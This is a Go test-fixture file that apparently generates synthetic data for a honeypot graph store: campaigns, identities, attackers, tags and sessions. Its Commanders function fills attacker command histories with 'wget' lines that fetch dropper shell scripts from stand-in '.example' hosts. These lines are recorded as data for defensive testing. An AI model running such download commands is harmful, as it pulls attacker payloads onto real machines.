package storagetest

import (
	"fmt"

	"decnetgraph/storage"
)

// Crowd returns a graph with the given number of tags and the proportions of a real one, for tests that need
// more rows than the fixture has. Keys are c000, c001 and so on for campaigns, i000 for identities, a000 for
// attackers, and s000 for sessions. Some of the campaigns and identities are merged into others.
func Crowd(tags int) Graph {
	g := Graph{}
	name := func(prefix string, n int) string { return fmt.Sprintf("%s%03d", prefix, n) }
	campaigns, identities, attackers := max(1, tags/250), max(1, tags/50), max(1, tags/15)
	for n := range campaigns {
		into := ""
		if n%7 == 3 {
			into = name("c", n-1)
		}
		g.Campaigns = append(g.Campaigns, with(campaign(name("c", n), into), func(c *storage.Campaign) { c.UpdatedAt, c.CreatedAt = at(n), at(n) }))
	}
	for n := range identities {
		into := ""
		if n%9 == 4 {
			into = name("i", n-n%9)
		}
		g.Identities = append(g.Identities, with(identity(name("i", n), name("c", n%campaigns), into), func(i *storage.Identity) {
			i.UpdatedAt, i.CreatedAt = at(n), at(n)
		}))
	}
	for n := range attackers {
		g.Attackers = append(g.Attackers, with(attacker(name("a", n), name("i", n%identities)), func(a *Attacker) {
			a.IP, a.FirstSeen, a.LastSeen, a.EventCount = fmt.Sprintf("203.0.%d.%d", n/256, n%256), at(n), at(n*7), n%50
		}))
	}
	for n := range tags {
		of := ""
		if n%10 == 0 { // live tags rarely refer to an identity
			of = name("i", n%identities)
		}
		one := tag(fmt.Sprintf("t%06d", n), of, name("a", n*31%attackers))
		one.TechniqueID, one.RuleID = fmt.Sprintf("T%04d", 1000+n%60), fmt.Sprintf("R%04d", n%59)
		one.SessionID, one.Decky, one.CreatedAt = new(name("s", n/8)), new(fmt.Sprintf("decky-%d", n%6)), at(n)
		g.Tags = append(g.Tags, one)
	}
	return g
}

// Commanders returns attackers who have typed commands that differ: most texts are rare.
func Commanders(number int) Graph {
	var g Graph
	for n := range number {
		a := attacker(fmt.Sprintf("%08x-0000-4000-8000-%012x", n*2654435761%(1<<32), n), "")
		a.IP, a.LastSeen = fmt.Sprintf("198.18.%d.%d", n/250, n%250), at(n)
		for k := range 4 {
			a.Commands = append(a.Commands, storage.Command{
				Command: new(fmt.Sprintf("wget http://dropper-%d.example/%x.sh", n, n*7919+k)), Timestamp: new(at(n + k)),
			})
		}
		g.Attackers = append(g.Attackers, a)
	}
	return g
}
